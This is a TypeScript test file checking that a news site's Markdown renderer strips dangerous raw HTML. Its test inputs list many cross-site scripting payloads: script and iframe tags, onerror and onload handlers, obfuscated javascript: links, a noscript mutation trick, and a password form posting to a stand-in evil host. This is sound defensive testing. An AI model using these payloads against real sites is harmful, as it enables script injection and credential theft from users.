import { fromHtml } from 'hast-util-from-html';
import { describe, expect, test } from 'vitest';
import { markdownProcessor } from '../../src/markdown/pipeline.ts';
import { makePaths } from '../../src/paths.ts';
import { elementsIn, textOf } from '../support/unit-html.ts';

// Markdown comes from people who may not change the site: nothing in it may run, load, submit or redirect.

const renderer = await markdownProcessor(makePaths('https://example.org/news/'), 'en').createRenderer({
  syntaxHighlight: false,
});

async function render(markdown: string) {
  const { code } = await renderer.render(`Before.\n\n${markdown}\n\nAfter.\n`);
  const root = fromHtml(code, { fragment: true });
  return { code, text: textOf(root), elements: elementsIn(root) };
}

describe('raw HTML in Markdown', () => {
  test.each([
    ['a script', '<script>alert(1)</script>'],
    ['a script within a line', 'Text <script src="https://evil.example/x.js"></script> text'],
    ['a script in a drawing', '<svg><script>alert(1)</script></svg>'],
    ['a drawing', '<svg onload="alert(1)"><use href="https://evil.example/x.svg#a"/></svg>'],
    ['a formula', '<math><mtext><script>alert(1)</script></mtext></math>'],
    ['a frame', '<iframe src="https://evil.example/"></iframe>'],
    ['a frame with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['an object', '<object data="https://evil.example/x.swf"><embed src="https://evil.example/x.swf"></object>'],
    ['a style', '<style>body { display: none }</style>'],
    ['a style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
    ['a base', '<base href="https://evil.example/">'],
    ['a template', '<template><script>alert(1)</script></template>'],
    ['a video', '<video src="https://evil.example/x.mp4" autoplay></video>'],
    ['a tag within an attribute', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ])('loses %s', async (_name, markdown) => {
    const { code, text, elements } = await render(markdown);
    const names = elements.map(({ tagName }) => tagName);
    expect(names.filter((name) => !['p', 'img'].includes(name))).toEqual([]);
    expect(code).not.toContain('evil.example');
    expect(elements.flatMap(({ properties }) => Object.keys(properties)).filter((name) => /^on/i.test(name))).toEqual(
      [],
    );
    expect(text).toMatch(/^Before\.[\s\S]*After\.$/);
  });

  test.each([
    '<style>body { display: none }</style>',
    '<script>display()</script>',
    '<svg><style>display</style></svg>',
  ])('shows no code to readers: %s', async (markdown) => {
    expect((await render(markdown)).text).not.toContain('display');
  });

  test('loses a form and whatever could be filled in', async () => {
    const form =
      '<form action="https://evil.example/"><input name="password" type="password"><button>Go</button></form>';
    const { code, elements } = await render(form);
    expect(elements.filter(({ tagName }) => ['form', 'button', 'select', 'textarea'].includes(tagName))).toEqual([]);
    expect(code).not.toMatch(/evil|password/);
    // A box of a task list is the one input that may stand, and nobody can change it.
    for (const { tagName, properties } of elements) {
      if (tagName === 'input') expect(properties).toEqual({ type: 'checkbox', disabled: true });
    }
  });

  test.each(['onclick', 'onerror', 'onload', 'onmouseover', 'onfocus', 'style', 'class', 'srcset', 'background'])(
    'loses the attribute %s',
    async (name) => {
      const { code } = await render(`<p ${name}="alert(1)">Text <img src="/a.png" alt="" ${name}="alert(1)"></p>`);
      expect(code).toContain('Text');
      expect(code).not.toContain('alert');
    },
  );

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    '&#106;avascript:alert(1)',
    '\u0001javascript:alert(1)',
    'vbscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'blob:https://example.org/1',
    'file:///etc/passwd',
  ])('loses the address %j', async (address) => {
    for (const markdown of [
      `[link](<${address}>)`,
      `<a href="${address}">link</a>`,
      `<img src="${address}" alt="link">`,
    ]) {
      const { elements } = await render(markdown);
      expect(elements.map(({ properties }) => properties.href ?? properties.src ?? '').join('')).toBe('');
    }
  });

  test('loses an image that stands in its own address', async () => {
    const { elements } = await render('![](data:image/svg+xml;base64,PHN2Zz4=)');
    expect(elements.find(({ tagName }) => tagName === 'img')?.properties.src).toBeUndefined();
  });

  test.each([
    '<picture><source srcset="//evil.example/x.png"><img src="/a.png" alt="Crane"></picture>',
    '<picture><source srcset="https://evil.example/x.png 2x" media="all"><img src="/a.png" alt="Crane"></picture>',
    '<img src="/a.png" alt="Crane" srcset="/a.png 1x, //evil.example/x.png 2x" sizes="100vw">',
  ])('loads the image of this site alone: %s', async (markdown) => {
    const { elements } = await render(markdown);
    expect(elements.filter(({ tagName }) => tagName !== 'p')).toMatchObject([
      { tagName: 'img', properties: { src: '/news/a.png', alt: 'Crane' } },
    ]);
    expect(elements.flatMap(({ properties }) => Object.keys(properties))).not.toContain('srcSet');
  });

  test.each([
    '![Crane](//evil.example/x.png)',
    '![Crane](&Tab;//evil.example/x.png)',
    '![Crane](\\\\\\\\evil.example/x.png)',
    '<img src="//evil.example/x.png" alt="Crane">',
    '<img src="\\\\evil.example/x.png" alt="Crane">',
    '<img src="\\/evil.example/x.png" alt="Crane">',
    '<img src=" //evil.example/x.png" alt="Crane">',
    '<img src="&#9;//evil.example/x.png" alt="Crane">',
    '<img src="https:evil.example/x.png" alt="Crane">',
  ])('loads no image of another host: %s', async (markdown) => {
    const { elements } = await render(markdown);
    const images = elements.filter(({ tagName }) => tagName === 'img');
    expect(images.map(({ properties }) => properties)).toEqual([{ alt: 'Crane' }]);
  });

  test('leaves the keys and the order of Tab to the page', async () => {
    const { elements } = await render('<p tabindex="9" accesskey="a">Text</p><img src="/a.png" alt="" usemap="#m">');
    expect(elements.flatMap(({ properties }) => Object.keys(properties))).toEqual(['src', 'alt']);
  });

  test('takes neither an id nor a name that something of the page could have', async () => {
    const markdown = [
      '<h2 id="Content">Heading</h2>',
      '<p id="Timeline" name="getElementById">Text</p>',
      '<a id="Facts" name="body">Text</a>',
      '<img src="/a.png" alt="" id="x" name="currentScript">',
      '<ul><li id="Topics">Text</li></ul>',
    ].join('\n\n');
    const { elements } = await render(markdown);
    expect(elements.flatMap(({ properties }) => properties.id ?? [])).toEqual(['heading']);
    expect(elements.flatMap(({ properties }) => properties.name ?? [])).toEqual([]);
  });

  test('cannot end what is around it', async () => {
    const { code } = await render('</div></article></main><p>Text</p><b>open');
    expect(code).not.toMatch(/<\/(div|article|main)>/);
    expect(code.match(/<b>/g)).toHaveLength(code.match(/<\/b>/g)?.length ?? 0);
  });

  test('leaves no comment behind', async () => {
    expect((await render('Text <!-- ask Kyiv --> text')).code).not.toMatch(/<!--|Kyiv/);
  });
});

describe('harmless HTML in Markdown', () => {
  test.each([
    '<abbr title="North Atlantic Treaty Organization">NATO</abbr>',
    '<kbd>Ctrl</kbd>',
    '<mark>new</mark>',
    '<cite>The report</cite>',
    '<small>not verified</small>',
    '<u>annotated</u>',
    '<time datetime="2026-01-26">Monday</time>',
    'H<sub>2</sub>O and m<sup>2</sup>',
    '<q>serious work</q>',
  ])('stays: %s', async (markdown) => {
    expect((await render(markdown)).code).toContain(markdown);
  });

  test('stays with Markdown in it: details', async () => {
    const { code } = await render('<details><summary>More</summary>\n\nWhat *else* is known.\n\n</details>');
    expect(code).toMatch(/<details><summary>More<\/summary>\s*<p>What <em>else<\/em> is known\.<\/p>\s*<\/details>/);
  });

  test('stays: a figure with its caption', async () => {
    const { elements } = await render('<figure><blockquote>Text</blockquote><figcaption>Kyiv</figcaption></figure>');
    expect(elements.map(({ tagName }) => tagName)).toEqual(['p', 'figure', 'blockquote', 'figcaption', 'p']);
  });
});
